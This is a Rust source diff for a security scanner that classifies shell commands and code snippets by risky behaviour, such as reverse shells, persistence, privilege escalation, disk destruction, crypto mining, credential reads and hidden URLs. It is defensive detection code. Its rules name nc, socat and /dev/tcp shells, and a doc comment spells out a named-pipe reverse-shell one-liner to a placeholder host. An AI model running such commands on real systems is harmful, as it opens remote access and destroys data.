+                    matches!(
+                        *previous,
+                        "--index-url"
+                            | "-i"
+                            | "--extra-index-url"
+                            | "--registry"
+                            | "--find-links"
+                            | "-f"
+                    )
+                })
+                || lower.starts_with("--index-url=")
+                || lower.starts_with("--extra-index-url=")
+                || lower.starts_with("--registry=");
+            let trusted_index = [
+                "pypi.org",
+                "pythonhosted.org",
+                "download.pytorch.org",
+                "pypi.nvidia.com",
+                "data.pyg.org",
+                "registry.npmjs.org",
+                "anaconda.org",
+                "conda.anaconda.org",
+            ]
+            .iter()
+            .any(|host| lower.contains(host));
+            (lower.starts_with("git+")
+                || lower.starts_with("git://")
+                || lower.starts_with("github:")
+                || (lower.contains("://") && !index_url)
+                || index_url && lower.contains("://"))
+                && !trusted_index
         });
         if let Some((_, word)) = from_url {
-            out.add(Behaviour::InstallFromUrl, at, format!("installs a package from {word} at run time"));
+            out.add(
+                Behaviour::InstallFromUrl,
+                at,
+                format!("installs a package from {word} at run time"),
+            );
         } else {
-            let packages: Vec<&str> = operands.iter().skip(if name == "uv" || name.starts_with("python") { 2 } else { 1 }).copied().take(6).collect();
-            out.add(Behaviour::PackageInstall, at, format!("installs packages at run time ({name}{}{})", if packages.is_empty() { "" } else { ": " }, packages.join(" ")));
+            let packages: Vec<&str> = operands
+                .iter()
+                .skip(if name == "uv" || name.starts_with("python") {
+                    2
+                } else {
+                    1
+                })
+                .copied()
+                .take(6)
+                .collect();
+            out.add(
+                Behaviour::PackageInstall,
+                at,
+                format!(
+                    "installs packages at run time ({name}{}{})",
+                    if packages.is_empty() { "" } else { ": " },
+                    packages.join(" ")
+                ),
+            );
         }
     }
 
@@ -1158,73 +1547,207 @@ fn shell_command_rules(command: &Command, words: &[&str], piped: bool, scope: &S
             out.writes_outside = true;
         }
         if target.contains("authorized_keys") {
-            out.add(Behaviour::AuthorizedKeys, at, "adds a key to ~/.ssh/authorized_keys: whoever holds it can log in");
+            out.add(
+                Behaviour::AuthorizedKeys,
+                at,
+                "adds a key to ~/.ssh/authorized_keys: whoever holds it can log in",
+            );
         } else if PERSISTENCE_PATHS.is_match(target) && !sets_a_variable(command) {
-            out.add(Behaviour::Persistence, at, format!("writes to {target}, which runs again later (login, shell, schedule or commit)"));
-        } else if target.starts_with("/etc/sudoers") || *target == "/etc/passwd" || target.starts_with("/etc/shadow") {
-            out.add(Behaviour::PrivilegeEscalation, at, format!("writes to {target}"));
+            out.add(
+                Behaviour::Persistence,
+                at,
+                format!(
+                    "writes to {target}, which runs again later (login, shell, schedule or commit)"
+                ),
+            );
+        } else if target.starts_with("/etc/sudoers")
+            || *target == "/etc/passwd"
+            || target.starts_with("/etc/shadow")
+        {
+            out.add(
+                Behaviour::PrivilegeEscalation,
+                at,
+                format!("writes to {target}"),
+            );
         } else if is_disk(target) {
-            out.add(Behaviour::Destructive, at, format!("overwrites the disk {target}"));
+            out.add(
+                Behaviour::Destructive,
+                at,
+                format!("overwrites the disk {target}"),
+            );
         }
     }
     match name {
         "crontab" if !operands.is_empty() || piped && !words.contains(&"-l") => {
-            out.add(Behaviour::Persistence, at, "installs a crontab: runs again on a schedule");
+            out.add(
+                Behaviour::Persistence,
+                at,
+                "installs a crontab: runs again on a schedule",
+            );
         }
-        "systemctl" if words.contains(&"enable") => out.add(Behaviour::Persistence, at, "enables a service that starts again at boot or login"),
-        "launchctl" if words.iter().any(|w| matches!(*w, "load" | "bootstrap" | "submit")) => out.add(Behaviour::Persistence, at, "loads a launch agent that starts again at login"),
+        "systemctl" if words.contains(&"enable") => out.add(
+            Behaviour::Persistence,
+            at,
+            "enables a service that starts again at boot or login",
+        ),
+        "launchctl"
+            if words
+                .iter()
+                .any(|w| matches!(*w, "load" | "bootstrap" | "submit")) =>
+        {
+            out.add(
+                Behaviour::Persistence,
+                at,
+                "loads a launch agent that starts again at login",
+            )
+        }
         _ => {}
     }
 
     // Destruction.
-    if name == "rm" && command.has_flag('r', &["recursive"]) || name == "rm" && command.has_flag('R', &[]) {
+    if name == "rm" && (command.has_flag('r', &["recursive"]) || command.has_flag('R', &[])) {
         if let Some(target) = operands.iter().find(|word| is_root_target(word)) {
-            out.add(Behaviour::Destructive, at, format!("removes {} recursively", if target.is_empty() { "/" } else { target }));
+            out.add(
+                Behaviour::Destructive,
+                at,
+                format!(
+                    "removes {} recursively",
+                    if target.is_empty() { "/" } else { target }
+                ),
+            );
         } else if let Some(target) = operands.iter().find(|word| is_system_path(word)) {
-            out.add(Behaviour::SystemDelete, at, format!("removes the system folder {target} recursively"));
+            out.add(
+                Behaviour::SystemDelete,
+                at,
+                format!("removes the system folder {target} recursively"),
+            );
         }
     }
-    if name.starts_with("mkfs") || name == "wipefs" || (name == "shred" && operands.iter().any(|w| is_disk(w))) {
+    if name.starts_with("mkfs")
+        || name == "wipefs"
+        || (name == "shred" && operands.iter().any(|w| is_disk(w)))
+    {
         out.add(Behaviour::Destructive, at, format!("{name} erases a disk"));
     }
-    if name == "dd" {
-        if let Some(target) = words.iter().find_map(|w| w.strip_prefix("of=")).filter(|t| is_disk(t)) {
-            out.add(Behaviour::Destructive, at, format!("dd overwrites the disk {target}"));
-        }
+    if name == "dd"
+        && let Some(target) = words
+            .iter()
+            .find_map(|w| w.strip_prefix("of="))
+            .filter(|t| is_disk(t))
+    {
+        out.add(
+            Behaviour::Destructive,
+            at,
+            format!("dd overwrites the disk {target}"),
+        );
     }
-    if matches!(name, "chmod" | "chown" | "chgrp") && command.has_flag('R', &["recursive"]) && operands.iter().skip(1).any(|w| is_root_target(w)) {
-        out.add(Behaviour::Destructive, at, format!("{name} -R over a whole tree ({})", operands.join(" ")));
+    if matches!(name, "chmod" | "chown" | "chgrp")
+        && command.has_flag('R', &["recursive"])
+        && operands.iter().skip(1).any(|w| is_root_target(w))
+    {
+        out.add(
+            Behaviour::Destructive,
+            at,
+            format!("{name} -R over a whole tree ({})", operands.join(" ")),
+        );
     }
 
     // Privileges.
-    if command.is_elevated() && command.words.iter().take_while(|w| !std::ptr::eq(*w, command.argv().first().unwrap_or(*w))).any(|w| w.text == "-S" || w.text == "--stdin") {
-        out.add(Behaviour::PrivilegeEscalation, at, "feeds a password to sudo -S");
+    if command.is_elevated()
+        && command
+            .words
+            .iter()
+            .take_while(|w| !std::ptr::eq(*w, command.argv().first().unwrap_or(*w)))
+            .any(|w| w.text == "-S" || w.text == "--stdin")
+    {
+        out.add(
+            Behaviour::PrivilegeEscalation,
+            at,
+            "feeds a password to sudo -S",
+        );
     }
     if name == "chmod" {
         let mode = operands.first().copied().unwrap_or("");
-        let setuid = mode.contains('s') && (mode.contains('+') || mode.contains('=')) || mode.len() == 4 && mode.chars().all(|c| c.is_ascii_digit()) && matches!(mode.as_bytes()[0], b'2' | b'4' | b'6');
-        let world = mode.ends_with('7') && mode.len() >= 3 && mode.chars().all(|c| c.is_ascii_digit()) || mode.ends_with("66") || mode.contains("o+w") || mode.contains("a+w") || mode == "a+rwx" || mode == "o+rwx";
+        let setuid = mode.contains('s') && (mode.contains('+') || mode.contains('='))
+            || mode.len() == 4
+                && mode.chars().all(|c| c.is_ascii_digit())
+                && matches!(mode.as_bytes()[0], b'2' | b'4' | b'6');
+        let world =
+            mode.ends_with('7') && mode.len() >= 3 && mode.chars().all(|c| c.is_ascii_digit())
+                || mode.ends_with("66")
+                || mode.contains("o+w")
+                || mode.contains("a+w")
+                || mode == "a+rwx"
+                || mode == "o+rwx";
         let targets = &operands[operands.len().min(1)..];
         if setuid {
-            out.add(Behaviour::PrivilegeEscalation, at, format!("sets the setuid/setgid bit ({mode})"));
+            out.add(
+                Behaviour::PrivilegeEscalation,
+                at,
+                format!("sets the setuid/setgid bit ({mode})"),
+            );
         } else if world && targets.iter().any(|t| is_system_path(t)) {
-            out.add(Behaviour::PrivilegeEscalation, at, format!("makes the system path {} writable by every user", targets.join(" ")));
-        } else if world && targets.iter().any(|t| !t.starts_with("/tmp") && !t.starts_with("/dev/")) {
-            out.add(Behaviour::PermissionsWeakened, at, format!("makes {} writable by every user", targets.join(" ")));
+            out.add(
+                Behaviour::PrivilegeEscalation,
+                at,
+                format!(
+                    "makes the system path {} writable by every user",
+                    targets.join(" ")
+                ),
+            );
+        } else if world
+            && targets
+                .iter()
+                .any(|t| !t.starts_with("/tmp") && !t.starts_with("/dev/"))
+        {
+            out.add(
+                Behaviour::PermissionsWeakened,
+                at,
+                format!("makes {} writable by every user", targets.join(" ")),
+            );
         }
     }
-    if name == "usermod" && words.iter().any(|w| w.contains('G')) && operands.iter().any(|w| matches!(*w, "sudo" | "wheel" | "admin" | "root" | "docker")) || name == "setcap" || name == "visudo" {
-        out.add(Behaviour::PrivilegeEscalation, at, format!("{name} grants privileges ({})", operands.join(" ")));
+    if name == "usermod"
+        && words.iter().any(|w| w.contains('G'))
+        && operands
+            .iter()
+            .any(|w| matches!(*w, "sudo" | "wheel" | "admin" | "root" | "docker"))
+        || name == "setcap"
+        || name == "visudo"
+    {
+        out.add(
+            Behaviour::PrivilegeEscalation,
+            at,
+            format!("{name} grants privileges ({})", operands.join(" ")),
+        );
     }
 
     // Mining.
     let text_tool = matches!(
         name,
-        "grep" | "egrep" | "fgrep" | "rg" | "ag" | "echo" | "printf" | "sed" | "awk" | "cat" | "jq"
-            | "yq" | "find" | "semgrep" | "yara" | "git"
+        "grep"
+            | "egrep"
+            | "fgrep"
+            | "rg"
+            | "ag"
+            | "echo"
+            | "printf"
+            | "sed"
+            | "awk"
+            | "cat"
+            | "jq"
+            | "yq"
+            | "find"
+            | "semgrep"
+            | "yara"
+            | "git"
     );
     if MINERS.contains(&name) || !text_tool && words.iter().any(|w| MINING_TEXT.is_match(w)) {
-        out.add(Behaviour::CryptoMiner, at, format!("runs a cryptocurrency miner ({name})"));
+        out.add(
+            Behaviour::CryptoMiner,
+            at,
+            format!("runs a cryptocurrency miner ({name})"),
+        );
     }
 
     // Reverse and bind shells.
@@ -1234,16 +1757,33 @@ fn shell_command_rules(command: &Command, words: &[&str], piped: bool, scope: &S
     });
     let is_exec = command.words.first().is_some_and(|w| w.text == "exec");
     if shell_redirect && (is_interpreter(name) || is_exec || name.is_empty()) {
-        out.add(Behaviour::ReverseShell, at, "connects a shell to a remote host through /dev/tcp");
+        out.add(
+            Behaviour::ReverseShell,
+            at,
+            "connects a shell to a remote host through /dev/tcp",
+        );
     }
-    if matches!(name, "nc" | "ncat" | "netcat") && (command.has_flag('e', &["exec", "sh-exec", "lua-exec"]) || command.has_flag('c', &[])) {
-        out.add(Behaviour::ReverseShell, at, format!("{name} hands a shell to whoever connects"));
+    if matches!(name, "nc" | "ncat" | "netcat")
+        && (command.has_flag('e', &["exec", "sh-exec", "lua-exec"]) || command.has_flag('c', &[]))
+    {
+        out.add(
+            Behaviour::ReverseShell,
+            at,
+            format!("{name} hands a shell to whoever connects"),
+        );
     }
-    if name == "socat" && words.iter().any(|w| {
-        let lower = w.to_ascii_lowercase();
-        lower.starts_with("exec:") || lower.starts_with("system:")
-    }) && words.iter().any(|w| w.to_ascii_lowercase().contains("tcp")) {
-        out.add(Behaviour::ReverseShell, at, "socat connects a shell to the network");
+    if name == "socat"
+        && words.iter().any(|w| {
+            let lower = w.to_ascii_lowercase();
+            lower.starts_with("exec:") || lower.starts_with("system:")
+        })
+        && words.iter().any(|w| w.to_ascii_lowercase().contains("tcp"))
+    {
+        out.add(
+            Behaviour::ReverseShell,
+            at,
+            "socat connects a shell to the network",
+        );
     }
     let _ = args;
 }
@@ -1252,25 +1792,47 @@ fn shell_command_rules(command: &Command, words: &[&str], piped: bool, scope: &S
 /// code that runs again.
 fn sets_a_variable(command: &Command) -> bool {
     matches!(command.name(), "echo" | "printf")
-        && command.args().iter().filter(|w| !w.text.starts_with('-')).all(|word| {
-            let text = word.text.trim();
-            text.strip_prefix("export ").is_some_and(|rest| {
-                rest.split_once('=').is_some_and(|(name, value)| {
-                    shell::is_assignment(&format!("{name}=")) && !value.contains("$(") && !value.contains('`')
+        && command
+            .args()
+            .iter()
+            .filter(|w| !w.text.starts_with('-'))
+            .all(|word| {
+                let text = word.text.trim();
+                text.strip_prefix("export ").is_some_and(|rest| {
+                    rest.split_once('=').is_some_and(|(name, value)| {
+                        shell::is_assignment(&format!("{name}="))
+                            && !value.contains("$(")
+                            && !value.contains('`')
+                    })
                 })
             })
-        })
 }
 
 fn is_disk(target: &str) -> bool {
-    ["/dev/sd", "/dev/hd", "/dev/nvme", "/dev/disk", "/dev/mmcblk", "/dev/xvd", "/dev/vd", "/dev/rdisk"].iter().any(|prefix| target.starts_with(prefix))
+    [
+        "/dev/sd",
+        "/dev/hd",
+        "/dev/nvme",
+        "/dev/disk",
+        "/dev/mmcblk",
+        "/dev/xvd",
+        "/dev/vd",
+        "/dev/rdisk",
+    ]
+    .iter()
+    .any(|prefix| target.starts_with(prefix))
 }
 
 /// A pipeline-level rule: a shell and a network program joined by pipes (`mkfifo f; cat f |
 /// sh -i 2>&1 | nc host 4444 > f`).
 fn pipe_shell(pipeline: &Pipeline) -> bool {
-    let shell = pipeline.iter().any(|c| matches!(c.name(), "sh" | "bash" | "zsh" | "dash") && c.has_flag('i', &[]));
-    let network = pipeline.iter().any(|c| matches!(c.name(), "nc" | "ncat" | "netcat" | "telnet") || c.name() == "openssl" && c.args().iter().any(|w| w.text == "s_client"));
+    let shell = pipeline
+        .iter()
+        .any(|c| matches!(c.name(), "sh" | "bash" | "zsh" | "dash") && c.has_flag('i', &[]));
+    let network = pipeline.iter().any(|c| {
+        matches!(c.name(), "nc" | "ncat" | "netcat" | "telnet")
+            || c.name() == "openssl" && c.args().iter().any(|w| w.text == "s_client")
+    });
     shell && network
 }
 
@@ -1317,7 +1879,9 @@ impl Taint {
     fn for_shell(&self) -> HashMap<String, Origin> {
         self.names
             .iter()
-            .filter_map(|(name, origins)| origins.first().map(|origin| (name.clone(), origin.clone())))
+            .filter_map(|(name, origins)| {
+                origins.first().map(|origin| (name.clone(), origin.clone()))
+            })
             .collect()
     }
 }
@@ -1353,9 +1917,14 @@ fn references(lexed: &code::Lexed, range: std::ops::Range<usize>) -> Vec<&str> {
 
 /// Removes from `range` the parts that are headers or authentication (`headers=…`,
 /// `auth=…`, `headers: {…}`): a token in an `Authorization` header is how an API is called.
-fn without_headers(lexed: &code::Lexed, range: std::ops::Range<usize>) -> Vec<std::ops::Range<usize>> {
+fn without_headers(
+    lexed: &code::Lexed,
+    range: std::ops::Range<usize>,
+) -> Vec<std::ops::Range<usize>> {
     static HEADERS: LazyLock<Regex> = LazyLock::new(|| {
-        pattern(r#"(?i)\b(?:headers|auth|authorization|cookies|proxies|verify|cert)\s*[=:]|["'](?:authorization|x-api-key|api-key|x-auth-token|cookie)["']\s*:"#)
+        pattern(
+            r#"(?i)\b(?:headers|auth|authorization|cookies|proxies|verify|cert)\s*[=:]|["'](?:authorization|x-api-key|api-key|x-auth-token|cookie)["']\s*:"#,
+        )
     });
     let mut kept = Vec::new();
     let mut from = range.start;
@@ -1364,7 +1933,9 @@ fn without_headers(lexed: &code::Lexed, range: std::ops::Range<usize>) -> Vec<st
     };
     for found in HEADERS.find_iter(text) {
         let start = range.start + found.start();
-        if start < from || lexed.inside_literal(start).is_some() && !found.as_str().starts_with(['"', '\'']) {
+        if start < from
+            || lexed.inside_literal(start).is_some() && !found.as_str().starts_with(['"', '\''])
+        {
             continue;
         }
         kept.push(from..start);
@@ -1408,13 +1979,137 @@ impl Sources {
     fn within(&self, range: std::ops::Range<usize>) -> Vec<Origin> {
         let from = self.marks.partition_point(|mark| mark.0 < range.start);
         let mut found: Vec<Origin> = Vec::new();
-        for (_, end, origin) in self.marks[from..].iter().take_while(|mark| mark.0 < range.end) {
+        for (_, end, origin) in self.marks[from..]
+            .iter()
+            .take_while(|mark| mark.0 < range.end)
+        {
             if *end <= range.end && !found.contains(origin) {
                 found.push(origin.clone());
             }
         }
         found
     }
+}
+
+/// A place where names take a value: `x = …`, `x[k] = …`, `x.append(…)`, `for a, b in …`.
+struct Binding {
+    names: Vec<String>,
+    value: std::ops::Range<usize>,
+    at: usize,
+    /// A plain `x = …`, whose value is what `x` holds (for a command line named by `x`).
+    plain: bool,
+}
+
+/// Patterns of the places a language binds names, besides plain assignments.
+struct Binders<'a> {
+    /// `name[…] = value`: group 1 the name.
+    subscript: &'a Regex,
+    /// `name.append(value)`: group 1 the name, the match ending at the `(`.
+    mutate: &'a Regex,
+    /// `for names in value` / `for (const names of value)`: group 1 the names.
+    for_loop: &'a Regex,
+}
+
+/// Every binding of `lexed`, in the order of the text.
+fn bindings(
+    lexed: &code::Lexed,
+    assignment: &Regex,
+    binders: &Binders<'_>,
+    for_parenthesised: bool,
+) -> Vec<Binding> {
+    let code_text = lexed.code.as_str();
+    let mut found = Vec::new();
+    for matched in assignment.find_iter(code_text) {
+        let name = assigned_name(matched.as_str());
+        if name.is_empty() || lexed.inside_literal(matched.start()).is_some() {
+            continue;
+        }
+        let start = matched.end() - 1;
+        found.push(Binding {
+            names: vec![name.to_owned()],
+            value: start..lexed.statement_end(start),
+            at: matched.start(),
+            plain: true,
+        });
+    }
+    let cheap = |needle: &str| code_text.contains(needle);
+    if cheap("]") {
+        for captures in binders.subscript.captures_iter(code_text) {
+            if let (Some(whole), Some(name)) = (captures.get(0), captures.get(1))
+                && lexed.inside_literal(whole.start()).is_none()
+            {
+                let start = whole.end() - 1;
+                found.push(Binding {
+                    names: vec![name.as_str().to_owned()],
+                    value: start..lexed.statement_end(start),
+                    at: whole.start(),
+                    plain: false,
+                });
+            }
+        }
+    }
+    for captures in binders.mutate.captures_iter(code_text) {
+        if let (Some(whole), Some(name)) = (captures.get(0), captures.get(1))
+            && lexed.inside_literal(whole.start()).is_none()
+        {
+            found.push(Binding {
+                names: vec![name.as_str().to_owned()],
+                value: lexed.call_span(whole.end() - 1),
+                at: whole.start(),
+                plain: false,
+            });
+        }
+    }
+    if cheap("for") {
+        for captures in binders.for_loop.captures_iter(code_text) {
+            if let (Some(whole), Some(targets)) = (captures.get(0), captures.get(1)) {
+                if lexed.inside_literal(whole.start()).is_some() {
+                    continue;
+                }
+                let value = if for_parenthesised {
+                    let open = code_text[..whole.end()].rfind('(').unwrap_or(whole.start());
+                    whole.end()..lexed.call_span(open).end
+                } else {
+                    whole.end()..lexed.statement_end(whole.end())
+                };
+                let names = IDENTIFIER
+                    .find_iter(targets.as_str())
+                    .map(|name| name.as_str().to_owned())
+                    .filter(|name| !matches!(name.as_str(), "const" | "let" | "var"))
+                    .collect();
+                found.push(Binding {
+                    names,
+                    value,
+                    at: whole.start(),
+                    plain: false,
+                });
+            }
+        }
+    }
+    found.sort_by_key(|binding| binding.at);
+    found
+}
+
+/// Names and where their values came from, following `bindings` in order; and the value
+/// each plainly assigned name was given last.
+fn follow(
+    lexed: &code::Lexed,
+    bindings: &[Binding],
+    sources: &Sources,
+) -> (Taint, HashMap<String, std::ops::Range<usize>>) {
+    let mut taint = Taint::default();
+    let mut assigned = HashMap::new();
+    for binding in bindings {
+        let mut origins = taint.origins_in(lexed, binding.value.clone());
+        origins.extend(sources.within(binding.value.clone()));
+        for name in &binding.names {
+            if binding.plain {
+                assigned.insert(name.clone(), binding.value.clone());
+            }
+            taint.add(name, origins.clone());
+        }
+    }
+    (taint, assigned)
 }
 
 /// An assignment's name, from the text its pattern matched (`  name: T = `).
@@ -1464,7 +2159,11 @@ fn shell_with(text: &str, anchor: (usize, usize), taint: &Taint, out: &mut Exami
 
 /// Quotes `word` for a shell, keeping `${name}` interpolations visible to [`shell::variables`].
 fn shell_quote(word: &str) -> String {
-    if !word.is_empty() && word.chars().all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,${}".contains(c)) {
+    if !word.is_empty()
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,${}".contains(c))
+    {
         word.to_owned()
     } else {
         format!("'{}'", word.replace('\'', r"'\''"))
@@ -1473,13 +2172,18 @@ fn shell_quote(word: &str) -> String {
 
 /// Turns `{name}` (a Python f-string's, a template literal's `${name}`) into `${name}`.
 fn interpolations_as_variables(text: &str) -> String {
-    static BRACES: LazyLock<Regex> = LazyLock::new(|| pattern(r"\$?\{\s*([A-Za-z_][A-Za-z0-9_.]*)[^}]*\}"));
+    static BRACES: LazyLock<Regex> =
+        LazyLock::new(|| pattern(r"\$?\{\s*([A-Za-z_][A-Za-z0-9_.]*)[^}]*\}"));
     BRACES.replace_all(text, "$${$1}").into_owned()
 }
 
 /// The call names whose first argument is a command (`subprocess.run`), with their spans:
 /// the command line they run, as shell text.
-fn command_line(lexed: &code::Lexed, span: std::ops::Range<usize>, assigned: &HashMap<String, std::ops::Range<usize>>) -> Option<String> {
+fn command_line(
+    lexed: &code::Lexed,
+    span: std::ops::Range<usize>,
+    assigned: &HashMap<String, std::ops::Range<usize>>,
+) -> Option<String> {
     let text = lexed.code.get(span.clone())?;
     let trimmed_start = span.start + (text.len() - text.trim_start().len());
     // The first argument: up to a comma outside brackets and literals.
@@ -1512,9 +2216,16 @@ fn command_line(lexed: &code::Lexed, span: std::ops::Range<usize>, assigned: &Ha
     let literals = lexed.literals_in(trimmed_start..first_end);
     let mut literal_iter = literals.iter().peekable();
     while index < first_end {
-        if let Some(literal) = literal_iter.peek().filter(|l| l.range.start <= index + 3 && l.range.start >= index) {
+        if let Some(literal) = literal_iter
+            .peek()
+            .filter(|l| l.range.start <= index + 3 && l.range.start >= index)
+        {
             let content = interpolations_as_variables(lexed.text(literal));
-            parts.push(if is_list { shell_quote(&content) } else { content });
+            parts.push(if is_list {
+                shell_quote(&content)
+            } else {
+                content
+            });
             index = literal.range.end + 1;
             literal_iter.next();
             continue;
@@ -1528,7 +2239,11 @@ fn command_line(lexed: &code::Lexed, span: std::ops::Range<usize>, assigned: &Ha
                 index += identifier.end() + ".executable".len();
                 continue;
             }
-            if !matches!(name, "f" | "r" | "b" | "rb" | "br" | "fr" | "rf" | "u" | "F" | "R" | "B") || !after.starts_with(['"', '\'']) {
+            if !matches!(
+                name,
+                "f" | "r" | "b" | "rb" | "br" | "fr" | "rf" | "u" | "F" | "R" | "B"
+            ) || !after.starts_with(['"', '\''])
+            {
                 parts.push(format!("\"${{{name}}}\""));
             }
             index += identifier.end();
@@ -1536,7 +2251,11 @@ fn command_line(lexed: &code::Lexed, span: std::ops::Range<usize>, assigned: &Ha
         }
         index += rest.chars().next().map_or(1, char::len_utf8);
     }
-    let joined = if is_list { parts.join(" ") } else { parts.concat() };
+    let joined = if is_list {
+        parts.join(" ")
+    } else {
+        parts.concat()
+    };
     (!joined.trim().is_empty()).then_some(joined)
 }
 
@@ -1550,16 +2269,29 @@ fn generic(text: &str, base: usize, anchor: Option<(usize, usize)>, out: &mut Ex
     for literal in &lexed.literals {
         let content = lexed.text(literal);
         let at = place(anchor, base + literal.range.start, content.len());
-        if content.contains(' ') && content.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/') {
-            examine_into(content, Lang::Shell, base + literal.range.start, Some(at), out, depth + 1);
+        if content.contains(' ')
+            && content.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/')
+        {
+            examine_into(
+                content,
+                Lang::Shell,
+                base + literal.range.start,
+                Some(at),
+                out,
+                depth + 1,
+            );
         }
         literal_rules(content, at, out);
-        let line_start = lexed.code[..literal.range.start].rfind('\n').map_or(0, |i| i + 1);
+        let line_start = lexed.code[..literal.range.start]
+            .rfind('\n')
+            .map_or(0, |i| i + 1);
         let line = &lexed.code[line_start..literal.range.start];
-        if let Some((label, true)) = credential(content) {
-            if ["read", "open", "File", "load", "copy", "cat", "IO."].iter().any(|call| line.contains(call)) {
-                out.add(Behaviour::CredentialRead, at, format!("reads {label}"));
-            }
+        if let Some((label, true)) = credential(content)
+            && ["read", "open", "File", "load", "copy", "cat", "IO."]
+                .iter()
+                .any(|call| line.contains(call))
+        {
+            out.add(Behaviour::CredentialRead, at, format!("reads {label}"));
         }
     }
     if let Some(found) = hosts::hosts(&lexed.code).into_iter().next() {
@@ -1571,10 +2303,18 @@ fn generic(text: &str, base: usize, anchor: Option<(usize, usize)>, out: &mut Ex
 /// Rules that hold for a string literal in any language: mining pools and hidden URLs.
 fn literal_rules(content: &str, at: (usize, usize), out: &mut Examined) {
     if let Some(found) = MINING_TEXT.find(content) {
-        out.add(Behaviour::CryptoMiner, at, format!("names a mining pool or miner ({})", found.as_str()));
+        out.add(
+            Behaviour::CryptoMiner,
+            at,
+            format!("names a mining pool or miner ({})", found.as_str()),
+        );
     }
     if let Some(url) = encoded_url(content) {
-        out.add(Behaviour::EncodedUrl, at, format!("hides a URL in base64: {url}"));
+        out.add(
+            Behaviour::EncodedUrl,
+            at,
+            format!("hides a URL in base64: {url}"),
+        );
     }
 }
 
